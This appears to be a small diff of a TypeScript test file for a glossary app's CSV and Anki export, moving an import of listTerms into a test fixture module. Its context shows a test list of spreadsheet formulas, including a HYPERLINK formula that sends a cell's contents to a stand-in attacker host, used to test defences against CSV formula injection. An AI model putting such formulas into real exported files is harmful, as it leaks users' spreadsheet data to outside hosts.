@@ -8,10 +8,9 @@ import Papa from 'papaparse';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { GlossaryDb, type SavedTerm } from './db';
 import { ankiField, neutraliseCell, restoreCell, toAnkiTsv, toCsv } from './export';
-import { kafrNabl, kafrNablEntry } from './fixtures.test-util';
+import { kafrNabl, kafrNablEntry, listTerms } from './fixtures.test-util';
 import { applyImport, planImport } from './import';
 import { parseCsvImport, previewCsv } from './import-csv';
-import { listTerms } from './terms';
 
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?"&A2,"click")',
